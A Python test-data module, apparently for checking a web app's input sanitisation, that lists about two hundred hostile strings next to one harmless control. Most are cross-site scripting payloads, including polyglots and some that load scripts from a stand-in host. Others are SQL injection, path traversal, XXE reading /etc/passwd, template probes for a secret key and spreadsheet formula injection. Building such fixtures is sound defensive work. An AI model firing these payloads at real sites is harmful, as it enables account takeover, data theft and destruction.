"""Two hundred strings that mean harm to a page, by how they go about it; and a harmless one to compare with.

Each runs `window.__xss` or opens a box if a browser ever takes it for code. Some of those that are long are made of
parts, since what matters is the joint.
"""

HARMLESS = "harmless"

_DO = "window.__xss=1"
_EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onscroll",
]
_SELF_RUNNING = [
    f"<img src=x onerror={_DO}>",
    f"<img src=x:x onerror={_DO}//",
    f"<svg onload={_DO}>",
    f"<svg/onload={_DO}>",
    f"<svg><script>{_DO}</script>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_DO}><text x=20 y=20>x</text></a>",
    f"<svg><foreignObject><body onload={_DO}>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/>",
    f"<body onload={_DO}>",
    f"<body onpageshow={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<select autofocus onfocus={_DO}>",
    f"<textarea autofocus onfocus={_DO}>",
    f"<video><source onerror={_DO}>",
    f"<video src=x onerror={_DO}>",
    f"<audio src=x onerror={_DO}>",
    f"<details open ontoggle={_DO}>",
    f"<marquee onstart={_DO}>x</marquee>",
    f"<object data=javascript:{_DO}>",
    f"<object data='data:text/html,<script>{_DO}</script>'>",
    f"<embed src=javascript:{_DO}>",
    f"<iframe src=javascript:{_DO}>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    f"<iframe onload={_DO}>",
    f"<form action=javascript:{_DO}><button autofocus>x",
    f"<button formaction=javascript:{_DO}>x",
    f"<isindex action=javascript:{_DO} type=submit>",
    f"<math href=javascript:{_DO}>x</math>",
    f"<math><mi xlink:href='javascript:{_DO}'>x</mi></math>",
    f"<a href=javascript:{_DO}>x</a>",
    f"<a href='java\tscript:{_DO}'>x</a>",
    f"<a href='&#106;avascript:{_DO}'>x</a>",
    f"<a href='data:text/html,<script>{_DO}</script>'>x</a>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_DO}'>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    "<base href=//elsewhere.example/>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<link rel=import href=//elsewhere.example/x.html>",
    f"<keygen autofocus onfocus={_DO}>",
    f"<dialog open onclose={_DO}><form method=dialog><button autofocus>x",
    f"<xss style='animation-name:x' onanimationstart={_DO}>",
    f"<x contenteditable onblur={_DO}>x",
    f"<template><script>{_DO}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
]
_SCRIPTS = [
    f"<script>{_DO}</script>",
    f"<SCRIPT>{_DO}</SCRIPT>",
    f"<ScRiPt>{_DO}</sCrIpT>",
    f"<script >{_DO}</script >",
    f"<script\n>{_DO}</script\n>",
    f"<script/x>{_DO}</script>",
    "<script src=//elsewhere.example/x.js></script>",
    f"<script src=data:,{_DO}></script>",
    f"<script type=module>{_DO}</script>",
    f"<<script>{_DO}//<</script>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"</script><script>{_DO}</script>",
    "<script>alert`1`</script>",
    "<script>alert(1)</script>",
    "<script>top['al'+'ert'](1)</script>",
    "<script>eval(atob('d2luZG93Ll9feHNzPTE='))</script>",
    f"<script>setTimeout('{_DO}')</script>",
    "<script>\\u0077indow.__xss=1</script>",
]
_OUT_OF = ["'", '"', "`", "'>", '">', "`>", "</", "-->", "]]>", "*/", "//", ");", "};", "\\", "</title>", "</textarea>"]
_OUT_OF += [
    "</style>",
    "</option></select>",
    "</svg>",
    "</bdi>",
    "</time>",
    "</a>",
    "</button>",
    "</template>",
    "</h1>",
]
_BREAKING = [f"{out}<img src=x onerror={_DO}>" for out in _OUT_OF]
_ATTRIBUTES = [f"{quote} {event}={_DO} x={quote}" for event in _EVENTS for quote in ("'", '"')]
_ATTRIBUTES += [f'" style=animation-name:x autofocus tabindex=0 onfocus={_DO} "', "' href='javascript:alert(1)'"]
_ATTRIBUTES += ['" id=main class=wrong hidden "', '" formaction=javascript:alert(1) "', '" http-equiv=refresh "']
_ADDRESSES = [
    *(f"javascript:{_DO}", f"JaVaScRiPt:{_DO}", f"java\nscript:{_DO}", f" javascript:{_DO}", f"javascript://%0a{_DO}"),
    *(
        f"vbscript:{_DO}",
        f"data:text/html,<script>{_DO}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
    ),
    *(
        "//elsewhere.example/",
        "https://elsewhere.example/",
        "\\\\elsewhere.example",
        "/\\elsewhere.example",
        "?at=2020-01-01",
    ),
]
_TEMPLATES = [
    *("{{ 7|add:7 }}", "{{ settings.SECRET_KEY }}", "{{ request.META }}", "{% load static %}", "{% debug %}"),
    *(
        "{% include 'base.html' %}",
        "{% autoescape off %}",
        "{% endblock %}",
        "{# #}",
        "{{constructor.constructor('alert(1)')()}}",
    ),
    *(
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "[[7*7]]",
        "%(name)s",
        "%s%s%s%n",
        "{0.__class__}",
        "{name}",
        "__import__('os')",
        "$(id)",
        "`id`",
    ),
]
_ENTITIES = [
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "&amp;lt;b&amp;gt;",
    ),
    *(
        "&lt",
        "&#0;",
        "&#x00;",
        "&#xD800;",
        "&#128;",
        "&quot; onload=&quot;",
        "&apos;",
        "&nosuch;",
        "&Tab;&NewLine;",
        "&lpar;",
    ),
]
_ESCAPES = [
    *(
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\x3cscript\\x3e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%253Cscript%253E",
    ),
    *(
        "＜script＞alert(1)＜/script＞",
        "‹script›",
        "ʺ onload=alert(1) ʺ",
        "<ſcript>alert(1)</ſcript>",
        "<İmg src=x onerror=alert(1)>",
    ),
    *(
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<\u3000img src=x onerror=alert(1)>",
        "<img\u00a0src=x onerror=alert(1)>",
    ),
]
_COMMENTS = [
    *(
        f"<!--><img src=x onerror={_DO}>-->",
        f"<!--<img src='--><img src=x onerror={_DO}>'>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
    ),
    *(
        f"<![CDATA[<script>{_DO}</script>]]>",
        f"<!--[if gte IE 4]><script>{_DO}</script><![endif]-->",
        "<?xml version='1.0'?>",
    ),
    *(
        f"<?xml-stylesheet href='javascript:{_DO}'?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
        "<!x>",
        "<?",
        "</",
    ),
]
_STYLES = [
    *(
        "<style>@import'//elsewhere.example/x.css'</style>",
        "<style>*{display:none}</style>",
        "<div style=position:fixed;inset:0>",
    ),
    *("<p style=\"background:url('javascript:alert(1)')\">", "<style>@keyframes x{}</style>", "</style><style>"),
    *("<div style=x:expression(alert(1))>", "<link rel=preload as=style href=//elsewhere.example>"),
]
_POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "\"'--></style></script><svg onload=alert(1)>",
    "'\"></title><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>\'"`--!><!--',
    "';alert(1);'\";alert(1);\"</script><script>alert(1)</script>",
    "<svg><style><img src='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<b><i><u><s><tt><a name=x><p><h1><table><td>",
    "</main></body></html><script>alert(1)</script>",
    "\x3cimg src=x onerror=alert(1)\x3e\r\nSet-Cookie: a=b\r\n\r\n<b>",
    "' OR 1=1 --",
    "1;DROP TABLE web_entryrow",
    "../../../../etc/passwd",
    '=HYPERLINK("//elsewhere.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
HARMFUL = list(
    dict.fromkeys(
        _SCRIPTS
        + _SELF_RUNNING
        + _BREAKING
        + _ATTRIBUTES
        + _ADDRESSES
        + _TEMPLATES
        + _ENTITIES
        + _ESCAPES
        + _COMMENTS
        + _STYLES
        + _POLYGLOTS
    )
)
